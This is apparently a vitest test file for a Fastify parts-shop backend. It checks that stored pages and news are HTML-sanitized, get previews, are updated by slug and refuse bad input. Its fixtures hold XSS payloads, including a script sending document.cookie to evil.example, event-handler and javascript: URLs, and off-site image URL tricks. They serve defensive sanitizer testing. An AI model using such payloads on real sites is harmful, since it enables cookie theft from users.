import type { FastifyInstance } from 'fastify';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SHOP_API_PREFIX, shopEndpoints } from '@detal/contract';
import { buildApp } from '../../app.ts';
import { loadConfig } from '../../config.ts';
import type { Database } from '../../db/index.ts';
import { news, pages } from '../../db/schema/index.ts';
import { createTestDatabase } from '../../../test/helpers/db.ts';
import { ContentInputError, PREVIEW_LENGTH, saveNews, savePage, shortenText } from './store.ts';

const HOSTILE_BODY =
  '<h1 onclick="steal()">Доставка</h1><script>document.location="https://evil.example/?"+document.cookie</script>' +
  '<p style="color:red" onmouseover="steal()">Курьер по Москве — <a href="javascript:steal()">350 ₽</a>.</p>' +
  '<img src="/images/van.jpg" alt="Фургон" onerror="steal()"><iframe src="https://evil.example"></iframe>' +
  '<ul><li onclick="steal()">Самовывоз</li></ul><table><tr><td>1</td></tr></table>';
const CLEAN_BODY =
  '<h2>Доставка</h2><p>Курьер по Москве — <a>350 ₽</a>.</p><img src="/images/van.jpg" alt="Фургон" />' +
  '<ul><li>Самовывоз</li></ul><table><tr><td>1</td></tr></table>';

/** Nothing of the hostile body that could run: no script element, no handler attribute, no javascript: URL. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<style|\son[a-z]+=|javascript:|style=/i);
}

describe('content storage', () => {
  let database: Database;
  let app: FastifyInstance;

  beforeAll(async () => {
    database = await createTestDatabase();
    const config = loadConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent' }, { webBuildDir: null });
    app = await buildApp({ config, database });
    await app.ready();
  });

  afterAll(async () => {
    await app?.close();
    await database?.close();
  });

  const getShop = async (path: string) => {
    const response = await app.inject({ method: 'GET', url: SHOP_API_PREFIX + path });
    return { status: response.statusCode, body: response.json() as { data: Record<string, unknown> } };
  };

  it('savePage stores the body sanitized, and the API serves exactly that', async () => {
    const saved = await savePage(database.db, {
      slug: 'delivery',
      title: '  Доставка  ',
      bodyHtml: HOSTILE_BODY,
      metaTitle: 'Доставка запчастей',
      metaDescription: 'Курьер и самовывоз',
      published: true,
    });
    expect(saved).toEqual({ id: expect.any(Number), slug: 'delivery', created: true });
    const [row] = await database.db.select().from(pages).where(eq(pages.id, saved.id));
    expect(row).toMatchObject({
      slug: 'delivery',
      title: 'Доставка',
      contentHtml: CLEAN_BODY,
      metaTitle: 'Доставка запчастей',
      metaDescription: 'Курьер и самовывоз',
      published: true,
    });
    expectInert(row!.contentHtml);

    const { status, body } = await getShop('page/delivery');
    expect(status).toBe(200);
    expect(body.data).toEqual({
      id: saved.id,
      slug: 'delivery',
      title: 'Доставка',
      content_html: CLEAN_BODY,
      meta_title: 'Доставка запчастей',
      meta_description: 'Курьер и самовывоз',
    });
  });

  it('savePage on an existing slug updates that page, keeps meta texts not given, and can unpublish it', async () => {
    const first = await savePage(database.db, {
      slug: 'about',
      title: 'О нас',
      bodyHtml: '<p>Раз</p>',
      published: true,
      metaDescription: 'Кто мы',
    });
    const before = (await database.db.select().from(pages).where(eq(pages.id, first.id)))[0]!;
    const second = await savePage(database.db, {
      slug: 'about',
      title: 'О компании',
      bodyHtml: '<p>Два</p>',
      published: true,
    });
    expect(second).toEqual({ id: first.id, slug: 'about', created: false });
    const [row] = await database.db.select().from(pages).where(eq(pages.id, first.id));
    expect(row).toMatchObject({
      title: 'О компании',
      contentHtml: '<p>Два</p>',
      metaDescription: 'Кто мы',
      metaTitle: '',
    });
    expect(row!.updatedAt.getTime()).toBeGreaterThanOrEqual(before.updatedAt.getTime());
    expect(await database.db.select().from(pages).where(eq(pages.slug, 'about'))).toHaveLength(1);

    await savePage(database.db, { slug: 'about', title: 'О компании', bodyHtml: '<p>Два</p>', published: false });
    expect((await getShop('page/about')).status).toBe(404);
    expect((await getShop('page-list')).body.data).not.toContainEqual(expect.objectContaining({ slug: 'about' }));
  });

  it('saveNews stores a sanitized body, writes the preview from it, and the API serves both', async () => {
    const saved = await saveNews(database.db, {
      slug: 'novaya-dostavka',
      title: 'Новая доставка',
      bodyHtml: HOSTILE_BODY,
      imageUrl: '/images/van.jpg',
      publishedAt: new Date('2024-05-01T09:00:00Z'),
    });
    expect(saved.created).toBe(true);
    const { status, body } = await getShop('news-page/novaya-dostavka');
    expect(status).toBe(200);
    expect(shopEndpoints['news-page/:id'].response.parse(body)).toEqual(body);
    expect(body.data).toEqual({
      id: saved.id,
      slug: 'novaya-dostavka',
      title: 'Новая доставка',
      preview: 'Доставка Курьер по Москве — 350 ₽. Самовывоз 1',
      content_html: CLEAN_BODY,
      published_at: '2024-05-01T09:00:00.000Z',
      image_url: '/images/van.jpg',
    });
    expectInert(body.data.content_html as string);
  });

  it('saveNews on an existing slug keeps the image and date not given, and takes a written preview', async () => {
    const updated = await saveNews(database.db, {
      slug: 'novaya-dostavka',
      title: 'Доставка по Москве',
      bodyHtml: '<p>Теперь каждый день.</p>',
      preview: 'Курьер теперь ездит каждый день',
    });
    expect(updated.created).toBe(false);
    const [row] = await database.db.select().from(news).where(eq(news.slug, 'novaya-dostavka'));
    expect(row).toMatchObject({
      id: updated.id,
      title: 'Доставка по Москве',
      preview: 'Курьер теперь ездит каждый день',
      contentHtml: '<p>Теперь каждый день.</p>',
      imageUrl: '/images/van.jpg',
      publishedAt: new Date('2024-05-01T09:00:00Z'),
    });
  });

  it('a long body gives a preview cut at a word with an ellipsis', async () => {
    const words = Array.from({ length: 80 }, (_, index) => `слово${index}`).join(' ');
    await saveNews(database.db, { slug: 'dlinnaya', title: 'Длинная', bodyHtml: `<p>${words}</p>` });
    const [row] = await database.db.select().from(news).where(eq(news.slug, 'dlinnaya'));
    expect(row!.preview.length).toBeLessThanOrEqual(PREVIEW_LENGTH + 1);
    expect(row!.preview).toMatch(/^слово0 слово1 .* слово\d+…$/);
    expect(words.startsWith(row!.preview.slice(0, -1))).toBe(true);
    expect(shortenText('коротко', 10)).toBe('коротко');
  });

  it('refuses a bad slug, an empty title, a body with nothing left and a non-web image URL, storing nothing', async () => {
    const bad: Array<() => Promise<unknown>> = [
      () => savePage(database.db, { slug: 'Bad Slug', title: 'x', bodyHtml: '<p>x</p>', published: true }),
      () => savePage(database.db, { slug: '-x', title: 'x', bodyHtml: '<p>x</p>', published: true }),
      () => savePage(database.db, { slug: 'ok', title: '   ', bodyHtml: '<p>x</p>', published: true }),
      () => savePage(database.db, { slug: 'ok', title: 'x', bodyHtml: '<script>alert(1)</script>', published: true }),
      () => saveNews(database.db, { slug: 'ok', title: 'x', bodyHtml: '<p>x</p>', imageUrl: 'javascript:alert(1)' }),
      () => saveNews(database.db, { slug: 'ok', title: 'x', bodyHtml: '<p>x</p>', imageUrl: '//evil.example/a.png' }),
      // Browsers read a backslash as a slash, and drop tabs and line breaks: these lead off-site too.
      () => saveNews(database.db, { slug: 'ok', title: 'x', bodyHtml: '<p>x</p>', imageUrl: '/\\evil.example/a.png' }),
      () => saveNews(database.db, { slug: 'ok', title: 'x', bodyHtml: '<p>x</p>', imageUrl: '/\t/evil.example/a.png' }),
      () => saveNews(database.db, { slug: 'ok', title: 'x', bodyHtml: '<p>x</p>', publishedAt: new Date('nonsense') }),
    ];
    for (const attempt of bad) await expect(attempt()).rejects.toBeInstanceOf(ContentInputError);
    expect(await database.db.select().from(pages).where(eq(pages.slug, 'ok'))).toEqual([]);
    expect(await database.db.select().from(news).where(eq(news.slug, 'ok'))).toEqual([]);
  });
});
